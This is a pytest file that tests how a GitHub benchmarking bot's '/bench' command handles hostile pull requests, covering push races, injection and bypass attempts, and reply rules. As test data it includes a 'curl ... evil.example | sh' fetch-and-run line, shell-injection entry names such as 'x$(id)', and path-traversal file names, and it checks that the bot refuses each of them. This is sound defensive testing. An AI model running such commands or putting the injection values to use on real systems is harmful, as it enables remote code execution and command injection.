"""``/bench`` against a hostile pull request, end to end (the real PyGithub stack, the fake GitHub,
real git repos): pushes racing the command, injection through the bot's own selection, blockers the
pull request tries to lift, and who gets an answer."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from bot.github import bench, comments
from tests.conftest import ROOT, git
from tests.github.commenting import (
    _reactions,
    _replies,
    _run,
    _setup,
)
from tests.github.conftest import PR, REPO, pr_files

MI325X = "kimik2.5-int4-mi325x-vllm"
LAUNCHER = "runners/launch_mi325x-amds.sh"


def _answer(pr: PR, cid: int) -> str:
    [body] = [b for b in _replies(pr) if comments.reply_marker(cid) in b]
    return body


def _push(pr: PR, message: str, *, force: bool = False) -> str:
    git(pr.repo, "checkout", "-q", "conc")
    git(pr.repo, "add", "-A")
    git(pr.repo, "commit", "-q", "-m", message)
    pr.head = git(pr.repo, "rev-parse", "HEAD").strip()
    pr.gh.push(REPO, pr.number, head_sha=pr.head, files=pr_files(pr.repo, pr.base, pr.head), force=force)
    git(pr.repo, "checkout", "-q", "main")
    return pr.head


def _edit(pr: PR, path: str, fn: Any) -> None:
    git(pr.repo, "checkout", "-q", "conc")
    f = pr.repo / path
    f.parent.mkdir(parents=True, exist_ok=True)
    f.write_text(fn(f.read_text() if f.exists() else ""))


def _entry_block(pr: PR, name: str) -> str:
    text = (pr.repo / "configs/amd-master.yaml").read_text()
    start = text.index(f"{MI325X}:\n")
    end = text.find("\n\n", start)
    block = text[start:end if end >= 0 else len(text)]
    return block.replace(f"{MI325X}:", f"{yaml.safe_dump({name: 0}).split(': ')[0]}:", 1)


# ------------------------------------------------------------------ the push race (binding)

def test_a_plain_push_after_the_command_is_never_run(entry_pr: PR) -> None:
    seen = entry_pr.head
    _edit(entry_pr, "benchmarks/single_node/fixed_seq_len/kimik2.5_int4_mi325x.sh",
          lambda t: t + "\ncurl -s https://evil.example/x | sh\n")
    cid, event = comments_event(entry_pr, "/bench mi325x")  # written while the head was `seen`
    pushed = _push(entry_pr, "add a curl")  # lands before the commands workflow starts
    from bot.cli import main

    assert main(["event"]) == 0
    assert entry_pr.gh.dispatches(REPO) == []
    answer = _answer(entry_pr, cid)
    assert f"@{pushed}" in answer and seen[:12] not in answer.split("@")[-1]
    assert _reactions(entry_pr, cid) == ["confused", "eyes"]


def comments_event(pr: PR, body: str) -> tuple[int, dict[str, Any]]:
    from tests.github.commenting import _comment

    return _comment(pr, body)


def test_a_force_push_after_the_command_is_refused(entry_pr: PR) -> None:
    cid, _ = comments_event(entry_pr, "/bench mi325x")
    _edit(entry_pr, "configs/amd-master.yaml", lambda t: t.replace("conc-end: 128 }", "conc-end: 256 }", 1))
    _push(entry_pr, "more", force=True)
    from bot.cli import main

    main(["event"])
    assert entry_pr.gh.dispatches(REPO) == []
    assert "force-pushed after your comment" in _answer(entry_pr, cid)


def test_the_named_sha_binds_and_a_wrong_one_refuses(entry_pr: PR) -> None:
    _edit(entry_pr, "configs/amd-master.yaml", lambda t: t.replace("conc-end: 128 }", "conc-end: 256 }", 1))
    head = _push(entry_pr, "plain push")  # no server time for it: a plain /bench cannot be bound
    _, cid = _run(entry_pr, "/bench mi325x")
    assert entry_pr.gh.dispatches(REPO) == [] and f"`/bench mi325x @{head}`" in _answer(entry_pr, cid)
    _, cid = _run(entry_pr, "/bench mi325x @0000000")
    assert entry_pr.gh.dispatches(REPO) == [] and "names `0000000`" in _answer(entry_pr, cid)
    _, cid = _run(entry_pr, f"/bench mi325x @{head.upper()}")
    [d] = entry_pr.gh.dispatches(REPO)
    assert d["inputs"]["ref"] == head and "named in the command" in _answer(entry_pr, cid)


def test_an_unreadable_timeline_refuses_with_the_command_to_type(entry_pr: PR) -> None:
    entry_pr.gh.fail("GET", r"/repos/acme/bench/issues/\d+/timeline", status=500, times=50)
    _, cid = _run(entry_pr, "/bench mi325x")
    assert entry_pr.gh.dispatches(REPO) == []
    assert f"@{entry_pr.head}" in _answer(entry_pr, cid) and "timeline could not be read" in _answer(entry_pr, cid)


# ------------------------------------------------------------------ injection through the selection

@pytest.mark.parametrize("name", ['x";id;"', "x$(id)", "a b --config-files /etc/passwd", "x`id`"])
def test_an_entry_key_the_pr_adds_never_reaches_the_dispatch(entry_pr: PR, name: str) -> None:
    _edit(entry_pr, "configs/amd-master.yaml", lambda t: t.rstrip("\n") + "\n\n" + _entry_block(entry_pr, name) + "\n")
    head = _push(entry_pr, "a hostile entry")
    _, cid = _run(entry_pr, f"/bench mi325x @{head}")
    assert entry_pr.gh.dispatches(REPO) == []
    answer = _answer(entry_pr, cid)
    assert "not plain names" in answer and "entry name " in answer
    spans = re.findall(r"(`+) ?(.*?) ?\1", answer.split("entry name ", 1)[1])
    assert spans and spans[0][1] == name  # named, as an inert code span
    _, cid = _run(entry_pr, f"/bench mi325x --force @{head}")  # --force does not lift it
    assert entry_pr.gh.dispatches(REPO) == []


def test_a_config_file_name_the_pr_adds_never_reaches_the_dispatch(entry_pr: PR) -> None:
    bad = 'configs/x";id;"-master.yaml'
    _edit(entry_pr, bad, lambda _: _entry_block(entry_pr, "kimik2.5-int4-mi325x-vllm-evil") + "\n")
    head = _push(entry_pr, "a hostile config file")
    _, cid = _run(entry_pr, f"/bench mi325x kimik2.5-int4-mi325x-vllm-evil @{head}")
    assert entry_pr.gh.dispatches(REPO) == []
    assert "config file `" + bad + "`" in _answer(entry_pr, cid)


def test_input_patterns() -> None:
    good = ["configs/amd-master.yaml", ".github/configs/a.yml"]
    assert bench.unsafe_inputs(["kimik2.5-int4-mi325x-vllm"], good) == []
    bad = ["../x.yaml", "/etc/x.yaml", "-x.yaml", "configs/a b.yaml", "configs/a.yaml\n", "configs/x..y.yaml",
           "configs/a.json", "configs//a.yaml"]
    assert len(bench.unsafe_inputs([], bad)) == len(bad)
    assert len(bench.unsafe_inputs(["-x", "x y", "x" * 129, "é"], [])) == 4


def test_no_dispatch_input_is_expanded_inside_run() -> None:
    """Every template reads dispatch inputs through env: only, so an injected name stays data."""
    for path in sorted((ROOT / "workflows").glob("*.yml")):
        doc = yaml.safe_load(path.read_text())
        for job in (doc.get("jobs") or {}).values():
            for step in job.get("steps") or []:
                run = str(step.get("run", ""))
                assert not re.search(r"\$\{\{[^}]*\b(inputs|github\.event\.inputs|matrix|needs)\.", run), (path, run)


def test_all_over_the_dispatch_limit_is_refused(entry_pr: PR) -> None:
    _edit(entry_pr, "configs/amd-master.yaml", lambda t: t.rstrip("\n") + "\n\n" + "\n\n".join(
        _entry_block(entry_pr, f"kimik2.5-int4-mi325x-vllm-c{i}") for i in range(33)) + "\n")
    head = _push(entry_pr, "many entries")
    _, cid = _run(entry_pr, f"/bench mi325x --all @{head}")
    assert entry_pr.gh.dispatches(REPO) == []
    assert "more than the 32 one dispatch takes" in _answer(entry_pr, cid)


# ------------------------------------------------------------------ blockers the PR cannot lift

def test_a_suppression_the_pr_adds_does_not_lift_the_blocker(seed_pr: PR) -> None:
    _setup(seed_pr)
    git(seed_pr.repo, "checkout", "-q", "kimi-mtp")
    launcher = seed_pr.repo / LAUNCHER
    launcher.write_text(launcher.read_text().replace("set -euo pipefail\n", "set -euo pipefail\n"
                                                     "# benchbot: ignore-file[ignored-variant] trust me\n", 1))
    git(seed_pr.repo, "commit", "-qam", "quiet the linter")
    seed_pr.head = git(seed_pr.repo, "rev-parse", "HEAD").strip()
    seed_pr.gh.push(REPO, seed_pr.number, head_sha=seed_pr.head, files=pr_files(seed_pr.repo, seed_pr.base,
                                                                                  seed_pr.head))
    git(seed_pr.repo, "checkout", "-q", "main")
    _, cid = _run(seed_pr, f"/bench mi325x @{seed_pr.head}")
    assert seed_pr.gh.dispatches(REPO) == []
    answer = _answer(seed_pr, cid)
    assert "suppressed by this pull request" in answer and "kimik2.5-int4-mi325x-vllm-mtp" in answer


def test_a_dispatch_behind_the_depth_limit_is_unknown_not_a_pass(entry_pr: PR) -> None:
    def nest(text: str) -> str:
        start = text.index("srun --jobid=\"$JOB_ID\" \\\n    --container-image")
        calls = "".join(f"f{i}() {{\n    f{i - 1}\n}}\n" for i in range(1, 13))  # f12 -> f11 -> ... -> f0: 13 deep
        return text[:start] + "f0() {\n" + text[start:].rstrip("\n") + "\n}\n" + calls + "f12\n"
    _edit(entry_pr, LAUNCHER, nest)
    head = _push(entry_pr, "wrap the dispatch")
    _, cid = _run(entry_pr, f"/bench mi325x {MI325X} @{head}")
    assert entry_pr.gh.dispatches(REPO) == []
    answer = _answer(entry_pr, cid)
    assert re.search(r"call[ -]depth", answer) and LAUNCHER in answer, answer


def test_a_launcher_that_does_not_parse_is_a_blocker(entry_pr: PR) -> None:
    _edit(entry_pr, LAUNCHER, lambda t: t + "\nif then fi (\n")
    head = _push(entry_pr, "break the launcher")
    _, cid = _run(entry_pr, f"/bench mi325x {MI325X} @{head}")
    assert entry_pr.gh.dispatches(REPO) == []
    assert LAUNCHER in _answer(entry_pr, cid)


# ------------------------------------------------------------------ who gets an answer, and how

def test_near_misses_from_outsiders_get_no_reply_and_refusals_are_rate_limited(entry_pr: PR) -> None:
    writes = len(entry_pr.gh.writes(succeeded=True))
    _, cid = _run(entry_pr, "/bnech mi325x", "stranger")
    assert len(entry_pr.gh.writes(succeeded=True)) == writes and _reactions(entry_pr, cid) == []
    _, cid = _run(entry_pr, "/bench mi325x", "stranger")
    assert "write access" in _answer(entry_pr, cid)
    _, cid = _run(entry_pr, "/bench mi325x", "stranger")  # again within the hour: silence
    assert len([r for r in _replies(entry_pr) if "write access" in r]) == 1 and _reactions(entry_pr, cid) == []
    _, cid = _run(entry_pr, "/bnech mi325x")  # a collaborator's near miss is answered
    assert "did you mean `/bench`" in _answer(entry_pr, cid)


def test_a_failure_while_answering_ends_in_confused_with_the_reason(entry_pr: PR) -> None:
    entry_pr.gh.fail("GET", r"/repos/acme/bench/pulls/\d+/files", status=500, times=50)
    code, cid = _run(entry_pr, "/bench mi325x")
    assert code == 2 and entry_pr.gh.dispatches(REPO) == []
    assert _reactions(entry_pr, cid) == ["confused", "eyes"]
    answer = _answer(entry_pr, cid)
    assert "Could not finish this command" in answer and "benchbot:claim" not in answer


def test_an_internal_error_ends_in_confused_and_exit_3(entry_pr: PR, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*args: object) -> object:
        raise RuntimeError("selection exploded")

    monkeypatch.setattr(bench, "select", broken)
    code, cid = _run(entry_pr, "/bench mi325x")
    assert code == 3 and entry_pr.gh.dispatches(REPO) == []
    assert _reactions(entry_pr, cid) == ["confused", "eyes"]
    assert "RuntimeError: selection exploded" in _answer(entry_pr, cid)


def test_entry_names_are_inert_in_replies(entry_pr: PR, tmp_path: Path) -> None:
    _, cid = _run(entry_pr, "/bench mi325x kimik2.5_int4*x")
    assert entry_pr.gh.dispatches(REPO) == []
    _, cid = _run(entry_pr, "/bench mi325x no_such__entry_")
    answer = _answer(entry_pr, cid)
    assert "`no_such__entry_`" in answer


def test_a_suppression_the_base_has_is_still_obeyed(entry_pr: PR) -> None:
    repo = entry_pr.repo
    git(repo, "checkout", "-q", "main")
    launcher = repo / LAUNCHER
    launcher.write_text(launcher.read_text().replace("set -euo pipefail\n", "set -euo pipefail\n"
                                                     "# benchbot: ignore-file[ignored-variant] known, tracked\n", 1))
    git(repo, "commit", "-qam", "base: suppress")
    entry_pr.base = git(repo, "rev-parse", "HEAD").strip()
    git(repo, "checkout", "-q", "conc")
    git(repo, "merge", "-q", "--no-edit", "main")
    entry_pr.head = git(repo, "rev-parse", "HEAD").strip()
    entry_pr.gh.push(REPO, entry_pr.number, head_sha=entry_pr.head, base_sha=entry_pr.base,
                     files=pr_files(repo, entry_pr.base, entry_pr.head))
    git(repo, "checkout", "-q", "main")
    _, cid = _run(entry_pr, f"/bench mi325x kimik2.5-int4-mi325x-vllm-mtp @{entry_pr.head}")
    [d] = entry_pr.gh.dispatches(REPO)
    assert "kimik2.5-int4-mi325x-vllm-mtp" in d["inputs"]["generate-cli-command"]
    assert "Dispatched 1 entry" in _answer(entry_pr, cid)
